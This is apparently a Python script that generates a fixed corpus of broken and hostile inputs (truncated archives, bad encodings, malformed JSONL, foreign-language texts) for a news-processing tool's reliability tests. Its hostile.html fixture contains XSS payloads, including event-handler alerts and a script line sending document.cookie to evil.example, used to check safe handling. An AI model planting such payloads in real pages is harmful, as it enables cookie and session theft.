# ruff: noqa: RUF001 - the foreign-language texts are meant
"""Build ``tests/data/bad/``: hostile and broken inputs for the reliability tests (issue 9).

Deterministic (fixed seeds, gzip ``mtime=0``): running it again gives the same bytes, so the
folder can be committed and checked. The two big inputs (a 50 MB HTML page and a sentence of
5,000 words) and the huge single line are not stored; ``tests/test_reliability.py`` makes them
in a temporary folder with :func:`huge_line`, :func:`huge_page` and :func:`long_sentence`.

    .venv/bin/python scripts/build_bad_corpus.py [--out tests/data/bad]
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import random
from collections.abc import Callable
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "tests" / "data" / "bad"

ARTICLE = (
    "Kenyan police fired tear gas at protesters in Nairobi on Tuesday, witnesses said.\n\n"
    "The Kenyan government condemned the protests and accused opposition leaders of "
    "inciting violence. Opposition leaders criticised the police for the use of force."
)
FRENCH = (
    "Le gouvernement français a annoncé mardi de nouvelles sanctions contre la Russie. "
    "Le ministre des Affaires étrangères a déclaré que la France soutiendrait l'Ukraine "
    "aussi longtemps qu'il le faudrait, et que les discussions avec les partenaires "
    "européens se poursuivraient la semaine prochaine à Bruxelles."
)
ARABIC = (
    "أعلنت الحكومة المصرية يوم الثلاثاء عن اتفاق جديد مع الأردن لتعزيز التعاون الاقتصادي "
    "بين البلدين. وقال وزير الخارجية إن المحادثات ستستمر الأسبوع المقبل في القاهرة."
)
CHINESE = (
    "中国外交部星期二表示，中方愿与伊朗加强在各领域的合作。外交部发言人在例行记者会上说，"
    "双方将于下月在北京举行新一轮会谈，讨论经济和安全问题。"
)
RUSSIAN = (
    "Министерство иностранных дел России во вторник осудило новые санкции Европейского "
    "союза. Представитель министерства заявила, что Москва ответит на эти меры, и что "
    "переговоры с партнёрами продолжатся на следующей неделе."
)
HOSTILE_TITLE = "<script>alert('title')</script> Kenya police clash with protesters"
HOSTILE_HTML = f"""<!doctype html>
<html><head><title>{HOSTILE_TITLE.replace("<", "&lt;").replace(">", "&gt;")}</title>
<script>document.location='https://evil.example/?c='+document.cookie</script></head>
<body onload="alert('body')"><article>
<h1>{HOSTILE_TITLE.replace("<", "&lt;").replace(">", "&gt;")}</h1>
<img src="x.png" onerror="alert('img')" alt="photo">
<p>Kenyan police fired tear gas at protesters in Nairobi on Tuesday, witnesses said.</p>
<p onclick="alert('p')">The Kenyan government condemned the protests and accused opposition
leaders of inciting violence. <a href="javascript:alert('link')">Read more</a></p>
<script>alert('inline')</script>
</article></body></html>
"""


def _article_html(title: str, body: str) -> str:
    return f"<html><head><title>{title}</title></head><body><article><h1>{title}</h1><p>{body}</p></article></body></html>"  # noqa: E501


def _gzip(data: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as stream:
        stream.write(data)
    return out.getvalue()


def _warc_record(number: int, uri: str, html: str) -> bytes:
    payload = html.encode("utf-8")
    http = (
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
        + f"Content-Length: {len(payload)}\r\n\r\n".encode()
        + payload
    )
    headers = (
        "WARC/1.0\r\nWARC-Type: response\r\n"
        f"WARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-{number:012d}>\r\n"
        "WARC-Date: 2023-07-25T08:00:00Z\r\n"
        f"WARC-Target-URI: {uri}\r\n"
        "Content-Type: application/http; msgtype=response\r\n"
        f"Content-Length: {len(http)}\r\n\r\n"
    )
    return headers.encode("ascii") + http + b"\r\n\r\n"


def truncated_warc_gz() -> bytes:
    """Two gzip members (records); the second is cut in the middle."""
    first = _gzip(_warc_record(1, "https://bad.example/warc-ok", _article_html("Talks", ARTICLE)))
    second = _gzip(_warc_record(2, "https://bad.example/warc-cut", _article_html("Cut", ARTICLE)))
    return first + second[: len(second) // 2]


def binary_png() -> bytes:
    rng = random.Random(9)  # noqa: S311 - fixed bytes, not secrets
    header = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
    return header + bytes(rng.randrange(256) for _ in range(4096))


def nested_divs(depth: int = 10_000) -> str:
    return (
        "<html><head><title>Nested</title></head><body>"
        + "<div>" * depth
        + "<p>Kenyan police fired tear gas at protesters in Nairobi.</p>"
        + "</div>" * depth
        + "</body></html>"
    )


def broken_jsonl() -> str:
    rows: list[str] = [
        json.dumps({"id": "jsonl-good", "text": ARTICLE, "published": "2023-07-25"}),
        '{"id": "jsonl-cut", "text": "Kenyan police fired',
        "not json at all",
        json.dumps(["an", "array"]),
        json.dumps({"id": 42, "text": ARTICLE}),
        json.dumps({"id": "jsonl-number-text", "text": 12345}),
        json.dumps({"id": "jsonl-no-text"}),
        json.dumps({"id": "jsonl-int-date", "text": ARTICLE, "published": 20230725}),
        json.dumps({"id": "jsonl-bad-date", "text": ARTICLE, "published": "yesterday"}),
        json.dumps({"id": "jsonl-empty-text", "text": "   "}),
        json.dumps({"id": "jsonl-title-list", "text": ARTICLE, "title": ["a"]}),
    ]
    return "\n".join(rows) + "\n"


# name -> (bytes, what it tests); the README is written from this table.
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty.txt": (lambda: b"", "an empty file: error 'empty document'"),
    "binary.html": (binary_png, "a PNG header and 4 KB of random bytes named .html: error"),
    "nul_bytes.txt": (
        lambda: ARTICLE.encode() + b"\x00\x00\x00 trailing",
        "text with NUL bytes: error 'binary content'",
    ),
    "invalid_utf8.txt": (
        lambda: ARTICLE.encode() + b"\n\nCaf\xc3 na\xefve \x80\x81\xfe r\xe9sum\xe9.",
        "bytes that are not UTF-8: decoded by a fallback (cp1252), stored",
    ),
    "utf16_bom.txt": (
        lambda: ARTICLE.replace("Tuesday", "Wednesday").encode("utf-16"),
        "UTF-16 with a byte-order mark: decoded, stored and coded",
    ),
    "utf16_nobom.txt": (
        lambda: ARTICLE.encode("utf-16-le"),
        "UTF-16 without a byte-order mark (NUL bytes): error 'binary content'",
    ),
    "nested_divs.html": (
        lambda: nested_divs().encode(),
        "10,000 nested <div>s: stored, or a one-line error; never a crash",
    ),
    "truncated.txt.gz": (
        lambda: _gzip(ARTICLE.encode() * 20)[:200],
        "a gzip file cut short: error 'not a valid gzip file'",
    ),
    "truncated.warc.gz": (
        truncated_warc_gz,
        "a WARC.gz whose second record is cut: the first stored, then an error",
    ),
    "broken.jsonl": (
        lambda: broken_jsonl().encode(),
        "JSONL: 1 good line, then a cut line, not JSON, an array, wrong types, missing and"
        " empty fields: one error per bad line naming FILE:LINE",
    ),
    "hostile.html": (
        lambda: HOSTILE_HTML.encode(),
        "<script> in the title and body, onerror=/onload=/onclick= handlers, a javascript:"
        " link: stored as plain text (the title literally)",
    ),
    "lang_fr.txt": (lambda: FRENCH.encode(), "French: stored with language 'fr', no events"),
    "lang_ar.txt": (lambda: ARABIC.encode(), "Arabic: stored with language 'ar', no events"),
    "lang_zh.txt": (lambda: CHINESE.encode(), "Chinese: stored with language 'zh', no events"),
    "lang_ru.txt": (lambda: RUSSIAN.encode(), "Russian: stored with language 'ru', no events"),
}

_README = """# Bad inputs (issue 9)

Generated by `scripts/build_bad_corpus.py` (deterministic; do not edit by hand) and used by
`tests/test_reliability.py`. Not stored here, made at test time in a temporary folder by the
same script: a single line of about 4 MB, a 50 MB HTML page (slow test) and a sentence of
5,000 words.

| file | what it tests |
| --- | --- |
"""


def build(out: Path) -> list[Path]:
    """Write every file of the corpus (and its README) into ``out``."""
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (make, _) in FILES.items():
        (out / name).write_bytes(make())
        written.append(out / name)
    rows = "".join(f"| `{name}` | {what} |\n" for name, (_, what) in FILES.items())
    (out / "README.md").write_text(_README + rows, encoding="utf-8")
    return written


def huge_line(megabytes: int = 4) -> str:
    """One line of text of about ``megabytes`` MB, no newline in it."""
    sentence = "Kenyan police fired tear gas at protesters in Nairobi on Tuesday. "
    return sentence * (megabytes * 1_000_000 // len(sentence))


def huge_page(megabytes: int = 50) -> str:
    """An HTML page of about ``megabytes`` MB: many paragraphs in one article."""
    paragraph = f"<p>{ARTICLE.splitlines()[0]} {'Witnesses counted the crowd. ' * 20}</p>\n"
    count = megabytes * 1_000_000 // len(paragraph)
    return _article_html("A very long page", "").replace("<p></p>", paragraph * count)


def long_sentence(words: int = 5000) -> str:
    """One sentence of ``words`` words, with actors and verbs all along it."""
    pieces = ["Kenyan", "police", "fired", "tear", "gas", "at", "protesters", "and"]
    return " ".join(pieces[i % len(pieces)] for i in range(words)) + "."


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=OUT)
    args = parser.parse_args()
    build(args.out)


if __name__ == "__main__":
    main()
